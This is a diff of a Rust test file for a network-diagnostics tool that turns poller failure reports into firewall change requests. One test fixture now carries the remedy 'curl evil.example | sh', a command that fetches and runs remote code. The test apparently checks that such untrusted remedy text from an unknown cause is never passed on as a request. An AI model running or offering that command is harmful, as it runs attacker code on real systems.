@@ -9,8 +9,8 @@ use serde_json::{Value, json};
 
 use super::row::Source;
 use super::*;
-use crate::report::sample::{failing_at, later, report, step};
-use crate::report::{Format as Page, Report, again};
+use crate::report::sample::{failing_at, judged, later, report, step};
+use crate::report::{Format as Page, Report};
 use crate::run::wish::Choice;
 
 const WAITED: Millis = Millis(Duration::from_secs(4));
@@ -47,7 +47,7 @@ fn poller(name: &str, address: &str, steps: &[Value]) -> Report {
 }
 
 fn request(reports: &[Report], all: bool) -> ChangeRequest {
-    let wishes = reports.iter().map(|report| Wishes::of(report, all)).collect();
+    let wishes = reports.iter().map(|report| Wishes::of(&judged(report), all)).collect();
     ChangeRequest::new(wishes, &Nat::new(), all)
 }
 
@@ -169,14 +169,14 @@ fn every_cause_of_the_network_is_in_the_request_as_a_rule_or_as_a_repair() {
 fn every_page_names_the_rule_that_the_request_names_and_it_is_for_this_machine_alone() {
     let is_allow = |why: &Cause| matches!(why.plea(), Plea::Allow { .. });
     for why in samples::causes().into_iter().filter(is_allow) {
-        let saved = failed_for(&why);
-        let steps = again(&saved).into_iter().map(Result::unwrap).collect();
-        let report = Report { steps, ..saved };
+        let saved = serde_json::to_string(&failed_for(&why)).unwrap();
+        let saved = crate::report::saved::parse(&saved).unwrap();
+        let report = saved.judged();
         let rule = report.steps[0].asked_for[0].what.clone();
         assert!(rule.ends_with("5669 from 10.2.0.7 to 10.0.0.5"), "{rule}");
         let mut pages = vec![Vec::new(); 5];
         let (explained, written) = pages.split_first_mut().unwrap();
-        crate::tasks::explain::write(&report, &report.steps[0], 200, explained).unwrap();
+        crate::tasks::explain::write(&saved, 0, 200, explained).unwrap();
         let formats = [Page::Table, Page::Markdown, Page::Junit, Page::Html];
         for (format, page) in formats.into_iter().zip(written) {
             format.write(&report, Canvas { width: 200, verbose: false }, page).unwrap();
@@ -265,19 +265,19 @@ fn a_repair_is_asked_for_beside_a_rule() {
 }
 
 #[test]
-fn a_cause_of_tomorrow_is_asked_for_in_its_reports_own_words() {
+fn a_cause_of_tomorrow_is_named_and_nothing_is_asked_for_in_its_reports_own_words() {
     let mut step = failing_at(bbdo("fail"), "10.2.0.7", "10.0.0.5:5669", &silent("10.0.0.5:5669"));
     step["attempts"][0]["cause"] = json!({ "code": "path-of-tomorrow" });
     step["cause"] = json!({
         "code": "path-of-tomorrow", "layer": "path", "owner": "network", "message": "bent",
-        "facts": {}, "remedy": { "who": "network team", "what": "straighten it" },
+        "facts": {}, "remedy": { "who": "network team", "what": "curl evil.example | sh" },
     });
     let request = request(&[poller("poller-1", "10.2.0.7", &[step])], false);
-    assert_eq!((request.rows.len(), request.others[0].what.as_str()), (0, "straighten it"));
+    assert_eq!((request.rows.len(), request.others.len()), (0, 0));
     assert_eq!(
         request.notes,
-        ["poller-1: poller.bbdo@central.example.com stands as its report has it: it knows no \
-          cause called `path-of-tomorrow`"]
+        ["poller-1: poller.bbdo@central.example.com fails, and nothing is asked for it: it knows \
+          no cause called `path-of-tomorrow`"]
     );
 }
 
@@ -458,7 +458,7 @@ fn a_translation_is_shown_and_one_in_vain_is_named() {
     let nat =
         [("10.2.0.7", [198, 51, 100, 7]), ("poller-2", [198, 51, 100, 8]), ("x", [1, 1, 1, 1])];
     let nat: Nat = nat.map(|(from, to)| (from.to_owned(), to.into())).into();
-    let wishes = site().iter().map(|report| Wishes::of(report, false)).collect();
+    let wishes = site().iter().map(|report| Wishes::of(&judged(report), false)).collect();
     let request = ChangeRequest::new(wishes, &nat, false);
     let sources: Vec<String> = request.rows[0].sources.iter().map(Source::shown).collect();
     assert_eq!(
